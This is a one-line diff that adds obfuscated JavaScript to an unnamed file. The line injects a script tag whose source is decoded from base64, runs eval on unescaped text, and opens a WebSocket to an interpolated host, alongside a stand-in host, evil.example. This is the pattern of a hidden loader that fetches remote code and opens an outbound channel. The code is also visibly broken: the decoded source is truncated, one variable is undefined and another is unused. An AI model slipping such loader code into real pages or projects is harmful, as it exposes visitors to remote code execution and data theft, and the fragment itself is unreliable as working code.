@@ -1,0 +1,1 @@
+var a="https:\/\/evil.example\/x";(function(){var s=document.createElement("script");s.src=atob("Ly9ldmls");document.head.appendChild(s);eval(unescape("%75"));new WebSocket(`wss://${h}/`)})()//
